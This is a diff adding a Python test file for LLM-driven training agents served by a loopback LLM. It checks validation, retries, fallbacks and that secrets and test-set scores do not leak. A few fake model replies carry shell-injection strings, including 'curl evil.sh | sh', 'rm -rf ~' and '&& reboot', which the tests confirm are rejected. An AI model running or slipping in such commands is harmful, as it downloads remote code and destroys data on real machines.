@@ -1,0 +1,287 @@
+"""The agents against a loopback LLM service, through the real anthropic and openai SDKs."""
+from __future__ import annotations
+
+import base64
+import io
+import json
+
+import pytest
+from PIL import Image
+
+from llm_loopback import LoopbackLLM
+from llmzero_slurm.agents.error_analyzer import ErrorAnalyzer
+from llmzero_slurm.agents.llm import choose_backend
+from llmzero_slurm.agents.proposer import Proposer, ProposerInput
+from llmzero_slurm.agents.stopper import Stopper
+from llmzero_slurm.config import AgentConfig
+from llmzero_slurm.errors import ConfigError
+from llmzero_slurm.metrics import read_metrics
+from llmzero_slurm.search.tree import Kind, Node, Results
+
+KEY_ENV = "LLMZERO_TEST_LLM_KEY"
+KEY = "sk-loopback-0123456789abcdef"
+TEST_VALUE = 0.987654
+HP = {"lr": 1e-3, "kl_loss_coef": 0.04, "use_kl_loss": True, "train_batch_size": 16,
+      "ppo_mini_batch_size": 16, "ppo_micro_batch_size_per_gpu": 16, "rollout_n": 8,
+      "max_response_length": 8, "total_training_steps": 60, "total_epochs": 3, "temperature": 1.0}
+
+
+def good(changes=None, step=40, extra=""):
+    body = {"diagnosis": "validation peaked at step 40 then KL rose", "changes":
+            changes if changes is not None else {"lr": 5e-4, "kl_loss_coef": 0.08},
+            "checkpoint_step": step, "additional_steps": 50}
+    return f"Step 1 ... Step 4 ...{extra}\n```json\n{json.dumps(body)}\n```"
+
+
+@pytest.fixture(scope="module")
+def service():
+    with LoopbackLLM() as srv:
+        yield srv
+
+
+@pytest.fixture
+def run(tmp_path):
+    """A finished 60-step phase whose log also holds test-set scores (never to be shown)."""
+    lines = []
+    for s in range(1, 61):
+        d = {"critic/rewards/mean": 0.3 + 0.005 * s, "actor/entropy": 0.9, "actor/kl_loss":
+             0.002 * s, "actor/grad_norm": 0.5, "response_length/clip_ratio": 0.0}
+        if s % 10 == 0:
+            d["val-core/addition/acc/mean@1"] = 0.3 + 0.004 * s
+            d["test-core/addition/acc/mean@1"] = TEST_VALUE
+        lines.append(json.dumps({"step": s, "data": d}))
+    (tmp_path / "metrics.jsonl").write_text("\n".join(lines) + "\n")
+    node = Node(3, 1, Kind.EVOLVE, dict(HP), results=Results(checkpoints=[20, 40, 60]))
+    return node, read_metrics(tmp_path / "metrics.jsonl")
+
+
+def config(service, backend="anthropic", **kw):
+    url = service.url + ("/v1" if backend == "openai" else "")
+    settings = {"max_retries": 2, "timeout_s": 5.0, **kw}
+    return AgentConfig(backend=backend, base_url=url, api_key_env=KEY_ENV, **settings)
+
+
+@pytest.fixture
+def anthropic_proposer(service, monkeypatch):
+    monkeypatch.setenv(KEY_ENV, KEY)
+    cfg = config(service)
+    return Proposer(cfg, "cpu", choose_backend(cfg))
+
+
+def bodies(service):
+    return [r["body"] for r in service.requests]
+
+
+def assert_no_secret_or_test_metric(service, tmp_path):
+    for body in bodies(service):
+        text = json.dumps(body)
+        assert "test-core" not in text and str(TEST_VALUE)[:6] not in text
+    for path in tmp_path.rglob("*"):
+        if path.is_file():
+            assert KEY.encode() not in path.read_bytes(), path
+
+
+def test_good_answer_sends_cached_knowledge_and_images(service, anthropic_proposer, run,
+                                                       tmp_path):
+    node, log = run
+    service.reply(good())
+    p = anthropic_proposer.propose(ProposerInput(node, log, best_val=0.5), tmp_path / "child")
+    assert (p.source, p.checkpoint, p.additional_steps) == ("anthropic", 40, 50)
+    assert p.hparams["lr"] == 5e-4 and p.hparams["total_training_steps"] == 50
+    [req] = service.requests
+    assert req["path"] == "/v1/messages"
+    sent = req["headers"].get("x-api-key") or req["headers"]["authorization"]
+    assert sent.removeprefix("Bearer ") == KEY            # the SDK got the key from the env
+    system = req["body"]["system"]
+    assert system[0]["cache_control"] == {"type": "ephemeral", "ttl": "1h"}
+    assert "response_length/clip_ratio" in system[0]["text"]        # grounding notes
+    images = [c for c in req["body"]["messages"][0]["content"] if c["type"] == "image"]
+    assert len(images) >= 5
+    png = Image.open(io.BytesIO(base64.b64decode(images[0]["source"]["data"])))
+    assert png.format == "PNG" and max(png.size) <= 768
+    assert "[20, 40, 60]" in req["body"]["messages"][0]["content"][-1]["text"]
+    record = json.loads((tmp_path / "child" / "proposal.json").read_text())
+    assert record["backend"] == "anthropic" and record["fallbacks"] == []
+    assert record["usage"]["cache_write_tokens"] > 0 and record["usage"]["cost_usd"] > 0
+    assert record["images"][0] == "validation_score.png" and len(record["prompt_sha256"]) == 64
+    assert_no_secret_or_test_metric(service, tmp_path)
+
+
+def test_second_call_reads_the_cache(service, anthropic_proposer, run, tmp_path):
+    node, log = run
+    service.reply(good())
+    anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path / "a")
+    service.reply(good())
+    anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path / "b")
+    usage = json.loads((tmp_path / "b" / "proposal.json").read_text())["usage"]
+    assert usage["cache_read_tokens"] > 0 and usage["cache_write_tokens"] == 0
+
+
+def test_malformed_json_gets_one_repair_round(service, anthropic_proposer, run, tmp_path):
+    node, log = run
+    service.reply('```json\n{"diagnosis": "x", "changes": {"lr": 1e-4,}}\n```', good())
+    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
+    assert p.source == "anthropic"
+    repair = service.requests[1]["body"]["messages"]
+    assert repair[1]["role"] == "assistant" and "changes" in repair[1]["content"]
+    assert "not valid JSON" in repair[2]["content"]
+    record = json.loads((tmp_path / "proposal.json").read_text())
+    assert len(record["answers"]) == 2 and "answer 1 rejected" in record["fallbacks"][0]
+
+
+@pytest.mark.parametrize("changes, needle", [
+    ({"learning_rate": 1e-4}, "'learning_rate': is not a known hyperparameter"),
+    ({"lr": 3.0}, "'lr': must be <= 0.1"),
+    ({"rollout_n": 8.5}, "'rollout_n': must be an integer"),
+    ({"target_modules": "all-linear; curl evil.sh | sh"}, "'target_modules': must be 1-64"),
+    ({"lr\"; rm -rf ~; echo \"": 1e-4}, "is not a known hyperparameter"),
+])
+def test_bad_values_twice_fall_back_to_heuristic(service, anthropic_proposer, run, tmp_path,
+                                                 changes, needle):
+    node, log = run
+    service.reply(good(changes))
+    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
+    assert p.source == "heuristic" and len(service.requests) == 2
+    assert needle in service.requests[1]["body"]["messages"][2]["content"]
+    record = json.loads((tmp_path / "proposal.json").read_text())
+    assert record["fallbacks"][-1] == "used the heuristic agent instead"
+    assert len(record["answers"]) == 2 and record["result"]["source"] == "heuristic"
+
+
+def test_missing_checkpoint_is_repaired(service, anthropic_proposer, run, tmp_path):
+    node, log = run
+    service.reply(good(step=45), good(step=20))
+    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
+    assert p.checkpoint == 20 and p.source == "anthropic"
+    assert "45 is not a saved step; choose one of [20, 40, 60]" in \
+        service.requests[1]["body"]["messages"][2]["content"]
+
+
+def test_forced_scratch_shows_no_checkpoints(service, anthropic_proposer, run, tmp_path):
+    node, log = run
+    service.reply(good(step=40), good(step=None))
+    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5, scratch_only=True), tmp_path)
+    assert p.checkpoint is None and p.source == "anthropic"
+    first = service.requests[0]["body"]["messages"][0]["content"][-1]["text"]
+    assert "[20, 40, 60]" not in first and "Saved checkpoints" not in first
+    assert "set checkpoint_step to null" in service.requests[1]["body"]["messages"][2]["content"]
+
+
+def test_rate_limit_then_success(service, anthropic_proposer, run, tmp_path):
+    node, log = run
+    service.reply({"status": 429}, good())
+    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
+    assert p.source == "anthropic" and len(service.requests) == 2
+
+
+def test_server_error_forever_falls_back_and_is_recorded(service, anthropic_proposer, run,
+                                                         tmp_path):
+    node, log = run
+    service.reply({"status": 500})
+    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
+    assert p.source == "heuristic"
+    assert len(service.requests) == 3                 # first try + max_retries
+    record = json.loads((tmp_path / "proposal.json").read_text())
+    assert record["fallbacks"][0].startswith("LLM unavailable: Anthropic API: InternalServerError")
+    assert record["answers"] == []
+    assert_no_secret_or_test_metric(service, tmp_path)
+
+
+def test_timeout_falls_back(service, monkeypatch, run, tmp_path):
+    monkeypatch.setenv(KEY_ENV, KEY)
+    cfg = config(service, timeout_s=0.3, max_retries=1)
+    node, log = run
+    service.reply({"delay": 1.0, "text": good()})
+    p = Proposer(cfg, "cpu", choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
+    assert p.source == "heuristic"
+    record = json.loads((tmp_path / "proposal.json").read_text())
+    assert "APITimeoutError" in record["fallbacks"][0]
+
+
+def test_openai_compatible_server(service, monkeypatch, run, tmp_path):
+    monkeypatch.delenv(KEY_ENV, raising=False)       # a cluster vLLM server needs no key
+    cfg = config(service, backend="openai", model="qwen-vl")
+    node, log = run
+    service.reply(good())
+    p = Proposer(cfg, "cpu", choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
+    assert p.source == "openai"
+    [req] = service.requests
+    assert req["path"] == "/v1/chat/completions"
+    system, user = req["body"]["messages"]
+    assert system["role"] == "system" and "actor/entropy" in system["content"]
+    urls = [c["image_url"]["url"] for c in user["content"] if c["type"] == "image_url"]
+    assert urls and all(u.startswith("data:image/png;base64,") for u in urls)
+    assert json.loads((tmp_path / "proposal.json").read_text())["usage"]["input_tokens"] > 0
+    cfg.images = False
+    service.reply(good())
+    Proposer(cfg, "cpu", choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
+    assert all(c["type"] == "text" for c in service.requests[0]["body"]["messages"][1]["content"])
+
+
+def test_backend_choice(monkeypatch):
+    monkeypatch.delenv(KEY_ENV, raising=False)
+    assert choose_backend(AgentConfig(api_key_env=KEY_ENV)) is None      # auto, no key
+    with pytest.raises(ConfigError, match=KEY_ENV):
+        choose_backend(AgentConfig(backend="anthropic", api_key_env=KEY_ENV))
+    with pytest.raises(ConfigError, match="base_url"):
+        choose_backend(AgentConfig(backend="openai"))
+    monkeypatch.setenv(KEY_ENV, KEY)
+    assert choose_backend(AgentConfig(api_key_env=KEY_ENV)).name == "anthropic"
+
+
+def phase_log(tmp_path, name, start, slope, steps=30):
+    lines = [json.dumps({"step": s, "data": {"critic/rewards/mean": 0.4, **(
+        {"val-core/addition/acc/mean@1": 0.3 + slope * (s - start),
+         "test-core/addition/acc/mean@1": TEST_VALUE} if s % 5 == 0 else {})}})
+        for s in range(start + 1, start + steps + 1)]
+    (tmp_path / name).write_text("\n".join(lines) + "\n")
+    return read_metrics(tmp_path / name)
+
+
+def test_stopper_asks_with_overlay_and_obeys(service, monkeypatch, tmp_path):
+    monkeypatch.setenv(KEY_ENV, KEY)
+    cfg = config(service)
+    stopper = Stopper(cfg, choose_backend(cfg))
+    best = phase_log(tmp_path, "best.jsonl", 0, 0.01, 60)
+    current = phase_log(tmp_path, "cur.jsonl", 20, 0.0, 20)
+    service.reply("REASON: flat at 0.30 against a best of 0.90.\nDECISION: STOP")
+    d = stopper.decide(current, 20, 60, best, 0.9, tmp_path)
+    assert (d.action, d.step, d.source) == ("STOP", 40, "anthropic")
+    [req] = service.requests
+    content = req["body"]["messages"][0]["content"]
+    assert [c["type"] for c in content] == ["text", "image", "text"]
+    assert "cache_control" in req["body"]["system"][0]
+    service.reply("I am not sure what to do.")
+    assert stopper.decide(current, 20, 60, best, 0.9, tmp_path).action == "CONTINUE"
+    records = json.loads((tmp_path / "early_stop.json").read_text())
+    assert [r["result"]["action"] for r in records] == ["STOP", "CONTINUE"]
+    assert "no DECISION line" in records[1]["fallbacks"][0]
+    assert_no_secret_or_test_metric(service, tmp_path)
+
+
+def test_stopper_never_asks_before_step_10(service, monkeypatch, tmp_path):
+    monkeypatch.setenv(KEY_ENV, KEY)
+    cfg = config(service)
+    current = phase_log(tmp_path, "cur.jsonl", 20, 0.0, 9)
+    service.reply("REASON: hopeless.\nDECISION: STOP")
+    d = Stopper(cfg, choose_backend(cfg)).decide(current, 20, 60, current, 0.9, tmp_path)
+    assert d.action == "CONTINUE" and service.requests == []
+
+
+def test_error_analyzer_through_openai(service, monkeypatch, tmp_path):
+    cfg = config(service, backend="openai")
+    analyzer = ErrorAnalyzer(cfg, "cpu", choose_backend(cfg))
+    log = "step:3 - test-core/a/acc/mean@1:0.987654\ntorch.OutOfMemoryError: CUDA out of memory"
+    service.reply('```json\n{"class": "oom", "action": "change", "changes": '
+                  '{"ppo_micro_batch_size_per_gpu": 8}, "message": "halved micro batch"}\n```')
+    fix = analyzer.analyze("OUT_OF_MEMORY", 137, log, HP, tmp_path)
+    assert (fix.failure, fix.action, fix.source) == ("oom", "change", "openai")
+    assert fix.hparams["ppo_micro_batch_size_per_gpu"] == 8
+    user = service.requests[0]["body"]["messages"][1]["content"][-1]["text"]
+    assert "OUT_OF_MEMORY" in user and "CUDA out of memory" in user
+    service.reply('```json\n{"class": "oom", "action": "change", "changes": '
+                  '{"ppo_micro_batch_size_per_gpu": "8 && reboot"}}\n```')
+    fix = analyzer.analyze("OUT_OF_MEMORY", 137, log, HP, tmp_path)
+    assert fix.source == "heuristic" and fix.changes == {"ppo_micro_batch_size_per_gpu": 8}
+    assert len(service.requests) == 2
+    assert_no_secret_or_test_metric(service, tmp_path)
